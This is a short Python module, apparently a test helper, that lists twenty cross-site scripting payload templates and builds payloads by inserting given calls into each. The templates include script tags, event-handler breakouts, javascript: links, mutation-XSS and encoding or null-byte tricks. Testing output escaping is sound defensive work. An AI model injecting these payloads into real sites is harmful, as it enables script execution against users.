"""Texts that try to run a script when they are shown without being escaped."""

SHAPES = [
    "<script>{x}</script>",
    "<img src=x onerror={x}>",
    '"><img src=x onerror={x}>',
    "'><svg onload={x}>",
    "</td></tr></table><script>{x}</script>",
    "</pre></details><iframe srcdoc='<script>parent.{x}</script>'></iframe>",
    "</style><script>{x}</script>",
    "--><script>{x}</script><!--",
    "<a href='javascript:{x}'>",
    '" onmouseover="{x}',
    "' autofocus onfocus='{x}",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={x}>",
    "&lt;script&gt;{x}&lt;/script&gt;",
    "&#60;script&#62;{x}",
    "\x1b[31m<script>{x}</script>\x1b[0m",
    "<scr\x00ipt>{x}</scr\x00ipt>",
    "\u202e<script>{x}</script>",
    "<style>@import '{x}'</style>",
    "<input type=image src=x onerror={x}>",
    "]]><script>{x}</script>",
]


def payloads(calls):
    """Return every shape with each of the calls in it."""
    return [shape.format(x=call) for shape in SHAPES for call in calls]
